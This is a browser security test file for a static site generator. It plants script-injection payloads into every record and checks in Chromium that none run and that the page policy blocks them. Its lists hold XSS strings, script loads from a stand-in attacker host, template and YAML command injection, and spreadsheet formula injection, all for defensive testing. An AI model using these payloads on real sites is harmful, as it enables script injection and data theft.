"""Script payloads in every text of every record, opened in Chromium: both walls, the escaping and the policy.

The records are made in the program, past the checks, so that what is tested is the pages alone.
"""

from __future__ import annotations

import dataclasses
import re
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import BrowserContext, Page, sync_playwright
from pydantic import TypeAdapter, ValidationError

from minutebook.knowledge_base import KnowledgeBase
from minutebook.loading import load
from minutebook.outputs.templating import clean
from minutebook.publication import publish
from minutebook.records.base import Part, Record
from minutebook.records.transfer import Transfer
from minutebook.records.values import Amount, Ref, Url
from minutebook.settings import Settings
from minutebook.staging import build_site
from minutebook.when import Period, When
from tests.browser.visiting import FLAGS
from tests.helpers import REPOSITORY, lay_out, sample_files

pytestmark = pytest.mark.browser

LONGEST = 10  # seconds for a page: only one that hangs takes that long

# -- the payloads --------------------------------------------------------------------------------

# Each runs, or asks for something, on a page that escapes nothing.
ELEMENTS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script >alert(1)</script >", "<script/x>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>", "<script src=data:text/javascript,alert(1)></script>",
    "<script src=//evil.example/x.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script>alert(1)", "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x\nonerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img src=https://evil.example/p.png>",
    "<img src=javascript:alert(1)>", "<img srcset='https://evil.example/p.png 2x'>", "<img src=x onerror='&#97;lert(1)'>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style>",
    "</title><script>alert(1)</script>", "</title></svg><img src=x onerror=alert(1)>", "<desc><img src=x onerror=alert(1)></desc>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=https://evil.example></iframe>",
    "<iframe onload=alert(1)></iframe>", "<object data=javascript:alert(1)></object>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>", "<embed src='data:text/html,<script>alert(1)</script>'>", "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=import href=data:text/html,x>", "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>body{display:none}</style>", "<style onload=alert(1)></style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>", "<base href=https://evil.example/>", "<base target=_blank>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<html onmouseover=alert(1)>", "<frameset onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
    "<form id=__config><input name=base></form>", "<a id=__config href=x>x</a>", "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1)>",
    "<video poster=https://evil.example/p.png>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>", "<dialog open onclose=alert(1)>x</dialog>", "<div style='background:url(https://evil.example/)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>", "<p style=animation-name:x onanimationstart=alert(1)>x</p>", "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<slot onslotchange=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<table background=https://evil.example/p.png>", "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<textarea></textarea><script>alert(1)</script>", "<portal src=https://evil.example>", "<bgsound src=https://evil.example/x>",
]  # fmt: skip
# Out of attributes, comments, JSON, quotations of YAML, templates, cells, and what Markdown turns over.
BREAKOUTS = [
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=`alert(1)", '"/><img src=x onerror=alert(1)>', "--><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->", "<!-- <img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?php alert(1) ?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y 'z'>]><script>alert(1)</script>",
    "</script><script>alert(1)</script>", '"</script><img src=x onerror=alert(1)>', '\\"};alert(1);//', "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</p></section></div></article><script>alert(1)</script>", "</h1><iframe src=javascript:alert(1)>", "</a><a href=javascript:alert(1)>x</a>",
    "{{ 7*7 }}<b>x</b>", "{{ config.__class__.__init__.__globals__ }}", "{% raw %}<script>alert(1)</script>{% endraw %}", "{% include '/etc/passwd' %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}", "{: onclick=alert(1) }", "text {: #id .class onclick=alert(1) }", "![[x]]{onclick=alert(1)}", "--8<-- '/etc/passwd'", ":fontawesome-brands-x: <script>alert(1)</script>",
    "\u2028alert(1)\u2029<script>alert(1)</script>", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "<\x0bscript>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\ufffe<img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞", "\u202e<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)", "\\<script>alert(1)\\</script>", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "---\ntitle: x\n---\n<script>alert(1)</script>", '"\ntemplate: 404.html\nx: "', "'\nhide: []\n- <script>alert(1)</script>", "!!python/object/apply:os.system ['true']", "*alias <script>alert(1)</script>", "&anchor <script>alert(1)</script>",
    '=HYPERLINK("javascript:alert(1)","x")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1<img src=x onerror=alert(1)>", "-1+1<img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "# <script>alert(1)</script>",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|c|d|", "*[HTML]: <script>alert(1)</script>\nHTML", "[^1]: <script>alert(1)</script>\n[^1]", "<div markdown=1 onclick=alert(1)>*x*</div>", "<p>\n\n<script>alert(1)</script>\n\n</p>",
    "A" * 5_000 + "<script>alert(1)</script>", "<b>" * 300 + "<script>alert(1)</script>", "<" * 190 + "script>alert(1)</script>", "[" * 500 + "](javascript:alert(1))",
]  # fmt: skip
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&#58;alert(1)", "java&Tab;script:alert(1)", "java\tscript:alert(1)",
    "\x01javascript:alert(1)", "%6Aavascript:alert(1)", "javascript://https://ok.example/%0Aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/", "blob:https://evil.example/x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
]  # fmt: skip
FORMS = ["[click]({})", "[click](<{}>)", "<{}>", "[click]\n\n[click]: {}", "![picture]({})", "[![x]({0})]({0} \"t' onclick='alert(1)\")", "[[{0}|{0}]]", '<a href="{}">x</a>']  # fmt: skip
# Every scheme in some form and every form with some scheme, each pair of neighbours once.
LINKS = [FORMS[number % len(FORMS)].format(scheme) for number, scheme in enumerate(SCHEMES)] + [
    form.format("javascript:alert(1)") for form in FORMS[1:]
]
PAYLOADS = [*ELEMENTS, *BREAKOUTS, *LINKS]
# In the address of the search page, in every place that it reads.
_PARAMETERS = ("q", "type", "council", "body", "outcome", "year", "from", "to", "sort", "page")
IN_ADDRESSES = [one for one in (*ELEMENTS[::6], *BREAKOUTS[:20:2], *SCHEMES[::4], "constructor", "__proto__") if one.isprintable()]  # fmt: skip
# Opened as they stand, without the pages: they show that the browser would run them.
LIVE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<details open ontoggle=alert(1)><summary>x</summary></details>"]  # fmt: skip

# -- the site ------------------------------------------------------------------------------------


class _Quiet(SimpleHTTPRequestHandler):
    """Serves files and says nothing; the index of the search only once it is searched, for every page asks for it."""

    searched = False  # whether the walk through the pages is over

    def do_GET(self) -> None:
        """Serve a file, or an index without documents."""
        if self.path.endswith("/search_index.json") and not _Quiet.searched:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(
                b'{"config": {"lang": ["en"], "separator": " ", "pipeline": [], "fields": {}}, "docs": []}'
            )
        else:
            super().do_GET()

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the library's name
        """Keep the log of requests out of the tests."""


@contextmanager
def _served(folder: Path) -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(folder))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def _with(part: Part, payload: str) -> Part:
    """The part with the payload in each text that is not an id, a key or an address, and in dates as written."""
    update: dict[str, object] = {}
    for name in type(part).model_fields:
        value = getattr(part, name)
        if isinstance(value, tuple):
            update[name] = tuple(_planted(one, name, payload) for one in value)
        else:
            update[name] = _planted(value, name, payload)
    return part.model_copy(update=update)


def _planted(value: object, name: str, payload: str) -> object:
    if isinstance(value, Part):
        return _with(value, payload)
    if isinstance(value, When | Period | Amount) and dataclasses.is_dataclass(value):
        return dataclasses.replace(value, as_written=payload)
    plain = type(value) is str and name not in ("erased", "key", "row", "column", "starts_at", "marks")
    return payload if plain and name not in ("url", "site", "addresses", "text_path") else value


def _hostile(folder: Path) -> KnowledgeBase:
    """A record for each payload, of each type in turn, and the samples they point at."""
    samples = list(load(lay_out(folder / "kb", sample_files())).kb.records.values())
    # A second council of a folder is no council, and a second establishment of a project is no answer.
    kinds = [one for one in samples if one.id.folder != "council" and not isinstance(one, Transfer)]
    records = [_placed(one, one.id, payload) for one, payload in zip(samples, PAYLOADS, strict=False)]
    for number, payload in enumerate(PAYLOADS):
        kind = kinds[number % len(kinds)]
        records.append(_placed(kind, Ref(f"{kind.council}/{kind.id.folder}/p-{number}"), payload))
    settings = Settings.model_validate({"title": "</title><script>alert(1)</script>", "as_of": "2021-05-20"})
    return KnowledgeBase(records, settings=settings)


def _placed(record: Record, record_id: Ref, payload: str) -> Record:
    copy = _with(record, payload)
    assert isinstance(copy, Record)
    # model_copy shares what only the file knows, unless it is given anew.
    copy.__pydantic_private__ = dict(record.__pydantic_private__ or {})
    return copy.placed(
        record_id, record.file, f"{payload}\n\nSee {payload} and [[projects/sample|{payload}]].", 1
    )


@dataclass
class Seen:
    """What was seen of all pages."""

    pages: list[str] = field(default_factory=list)
    titles: dict[str, str] = field(default_factory=dict)
    dialogs: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)
    abroad: list[str] = field(default_factory=list)
    strange: list[str] = field(default_factory=list)
    policies: dict[str, str] = field(default_factory=dict)  # what each page allows
    results: int = 0
    filters: list[str] = field(default_factory=list)  # the names of what results can be narrowed by
    asked: list[str] = field(
        default_factory=list
    )  # payloads in the address of the search page, as it showed them
    unguarded: int = 0  # dialogs of LIVE without a policy, and with it
    guarded: int = 0


_LISTEN = """document.addEventListener('securitypolicyviolation', event => (window.__violations ??= []).push(
    `${event.violatedDirective} ${event.blockedURI} ${event.sample}`))"""

# Everything a page may consist of. `svg` and the frame apart, a payload has no way to any of it.
_LOOK = """async () => {
    const strange = [];
    const policy = document.querySelector('meta[http-equiv="Content-Security-Policy"]').content;
    const digest = async text => 'sha256-' + btoa(String.fromCharCode(
        ...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))));
    const never = 'iframe,frame,frameset,object,embed,applet,base,style,math,video,audio,source,track,portal,template,'
        + 'foreignObject,animate,set,image,marquee,dialog,textarea,select,keygen,plaintext,xmp,x,b,noscript,slot,bgsound';
    // The page of what is not found brings its style with it; the search page is a form, and no record's.
    const lost = location.pathname.endsWith('/404.html'), searching = location.pathname.endsWith('/search/');
    const own = one => lost && one.tagName === 'STYLE' || searching && ['SELECT', 'NOSCRIPT'].includes(one.tagName);
    for (const one of document.querySelectorAll(never)) if (!own(one)) strange.push(one.outerHTML.slice(0, 120));
    const inside = searching ? '#mb-results :is(img,form,input,script,link,meta)'
        : '#content :is(img,form,input,button:not(.mb-copy),script,link,meta)';
    // A guide, which is written by hand and holds nothing of a record, shows the pictures of its own folder.
    const guide = /\\/guides\\/[a-z-]+\\/$/.test(location.pathname.replace('index.html', ''));
    const picture = one => guide && one.tagName === 'IMG'
        && /^\\.\\.\\/pictures\\/[a-z-]+\\.png$/.test(one.getAttribute('src'));
    // The box for a date, which the script of the site makes, holds nothing of a record and names no address.
    const dated = location.pathname.includes('/who-holds-what/') && document.querySelector('.mb-page > .mb-date-form > form');
    for (const one of document.querySelectorAll(inside))
        if (!picture(one) && !(dated && dated.contains(one))) strange.push(one.outerHTML.slice(0, 120));
    if (document.querySelectorAll('form').length > 2) strange.push('forms');
    for (const one of document.querySelectorAll('script')) {
        // The search page puts one script into itself, which its policy names.
        const own = searching && !one.src && one.parentNode === document.head && one.attributes.length === 0
            && policy.includes(`'self' '${await digest(one.text)}';`);
        if (!own && !/\\/assets\\/javascripts\\/|\\/search\\/loader-[0-9a-f]+\\.js$/.test(new URL(one.src || 'x:').pathname))
            strange.push(one.outerHTML.slice(0, 120));
    }
    for (const one of document.querySelectorAll('meta[http-equiv]:not(:first-child)')) strange.push(one.outerHTML);
    for (const one of document.querySelectorAll('*')) for (const {name, value} of one.attributes) {
        if (name.startsWith('on') || name === 'srcdoc' || name === 'style' && one.closest('#content'))
            strange.push(one.outerHTML.slice(0, 120));
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'ping', 'srcset'].includes(name)) {
            const protocol = new URL(value, document.baseURI).protocol;
            const inside = one.closest('#content') && !searching && !['A', 'rect'].includes(one.tagName);
            if (!['http:', 'https:', 'mailto:'].includes(protocol) || inside && !picture(one)) strange.push(one.outerHTML.slice(0, 120));
        }
    }
    const title = document.querySelector('h1');
    return {strange, policy, violations: window.__violations ?? [], title: title ? title.textContent : ''};
}"""


def _watch(context: BrowserContext, seen: Seen, bases: list[str]) -> Page:
    context.add_init_script(_LISTEN)
    page = context.new_page()
    page.set_default_timeout(LONGEST * 1000)

    def dialog(one: Any) -> None:
        seen.dialogs.append(one.message)
        one.dismiss()

    def asked(url: str) -> None:
        if not any(url.startswith(base) for base in bases):
            seen.abroad.append(url)

    page.on("dialog", dialog)
    page.on("request", lambda request: asked(request.url))
    page.on("console", lambda said: seen.complaints.append(said.text) if said.type == "error" else None)
    page.on("pageerror", lambda error: seen.complaints.append(str(error)))
    return page


def _look(page: Page, path: str, seen: Seen) -> None:
    found = page.evaluate(_LOOK)
    seen.strange += [f"{path}: {one}" for one in found["strange"]]
    seen.violations += [f"{path}: {one}" for one in found["violations"]]
    seen.titles[path] = found["title"]
    seen.policies[path] = found["policy"]


def _open_everything(chromium: str, root: Path, site: Path) -> Seen:
    seen = Seen()
    with ExitStack() as stack:
        host = stack.enter_context(_served(root))
        base = f"{host}{site.relative_to(root).as_posix()}/"
        alone = stack.enter_context(_served(site))
        playwright = stack.enter_context(sync_playwright())
        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
        page = _watch(browser.new_context(), seen, [base, alone])
        for file in sorted(site.resolve().rglob("*.html")):
            path = file.relative_to(site.resolve()).as_posix()
            # The page of what is not found names its files from the top of the host.
            page.goto(
                (alone if path == "404.html" else base) + path.removesuffix("index.html"), wait_until="load"
            )
            seen.pages.append(path)
            _look(page, path, seen)
        _Quiet.searched = True
        for scheme in ("light", "dark"):
            page = _watch(browser.new_context(color_scheme=scheme), seen, [base])
            for words in ("see", "onerror", "click"):
                page.goto(f"{base}search/?q={words}", wait_until="load")
                page.locator("#mb-results a").first.wait_for()
                page.wait_for_timeout(200)
                seen.results += page.locator("#mb-results > li").count()
                seen.filters += page.locator("#mb-filters label").all_text_contents()
                _look(page, f"search for {words}", seen)
        for payload in IN_ADDRESSES:
            page.goto(f"{base}search/?{urlencode(dict.fromkeys(_PARAMETERS, payload))}", wait_until="load")
            page.locator("#mb-count", has_text=re.compile("found|No record")).wait_for()
            _look(page, f"search for {payload}", seen)
            seen.asked.append(page.locator("#q").input_value())
        policy = page.locator("meta[http-equiv]").first.evaluate("one => one.outerHTML")
        seen.unguarded = _live(browser.new_context(), root, host, "")
        seen.guarded = _live(browser.new_context(), root, host, policy)
        browser.close()
    return seen


def _live(context: BrowserContext, root: Path, host: str, head: str) -> int:
    """How many of the live payloads run on a page that escapes nothing."""
    seen = Seen()
    page = _watch(context, seen, [host])
    for payload in LIVE:
        text = f"<!doctype html><html><head>{head}</head><body>{payload}</body></html>"
        (root / "live.html").write_text(text, encoding="utf-8")
        page.goto(f"{host}live.html?{len(head)}", wait_until="load")
        page.wait_for_timeout(100)
    return len(seen.dialogs)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> KnowledgeBase:
    """A knowledge base whose every text is a payload."""
    return _hostile(tmp_path_factory.mktemp("payloads"))


@pytest.fixture(scope="module")
def seen(chromium: str, hostile: KnowledgeBase, tmp_path_factory: pytest.TempPathFactory) -> Seen:
    """All pages of the site of it, opened one after the other."""
    root = tmp_path_factory.mktemp("served")
    site = root / "sub" / "site"
    site.parent.mkdir()
    as_of = hostile.settings.as_of
    assert as_of is not None
    build_site(publish(hostile), as_of, config_file=REPOSITORY / "mkdocs.yml", site=site)
    # In a thread of its own: another file's Playwright may still stand in this one.
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(_open_everything, chromium, root, site).result()


# -- what must hold ------------------------------------------------------------------------------


def test_every_payload_stands_on_its_page_as_words(seen: Seen, hostile: KnowledgeBase) -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 150
    shown = 0
    for record in hostile.records.values():
        title = seen.titles[f"{record.id}/index.html"]
        assert "".join(title.split()) == "".join(clean(record.title).split()), record.id
        shown += 1
    assert shown >= len(PAYLOADS)


def test_no_payload_runs(seen: Seen) -> None:
    assert seen.dialogs == []
    # The browser would have run them, and the policy alone stops them too.
    assert seen.unguarded == len(LIVE)
    assert seen.guarded == 0


def test_no_page_has_an_element_a_handler_or_an_address_of_a_payload(seen: Seen) -> None:
    assert seen.strange == []


def test_pages_obey_their_policy_and_ask_nothing_of_others(seen: Seen) -> None:
    assert seen.violations == []
    assert seen.complaints == []
    assert seen.abroad == []
    assert "404.html" in seen.pages
    # No page lets in a script by where it stands; the search page alone one by what it is.
    assert not any(
        re.search(r"unsafe-|blob:|data:", one.replace("img-src 'self' data:", ""))
        for one in seen.policies.values()
    )
    assert {path for path, one in seen.policies.items() if "script-src 'self';" not in one} - {
        "404.html"
    } == {path for path in seen.policies if path.startswith("search")}


def test_results_of_a_search_show_payloads_as_words(seen: Seen) -> None:
    assert seen.results > 50
    assert [name for name in seen.filters if "alert(1)" in name] != []


def test_what_an_address_asks_of_the_search_page_is_words(seen: Seen) -> None:
    assert len(IN_ADDRESSES) > 20
    assert seen.asked == IN_ADDRESSES


def test_addresses_of_records_are_refused_before_they_reach_a_page() -> None:
    url: TypeAdapter[str] = TypeAdapter(Url)
    for scheme in SCHEMES:
        with pytest.raises(ValidationError):
            url.validate_python(scheme)
    for end in ('"><script>', "' onclick=x", "`x`", " onclick=x", "<b>", "\\x"):
        with pytest.raises(ValidationError):
            url.validate_python("https://ok.example/" + end)
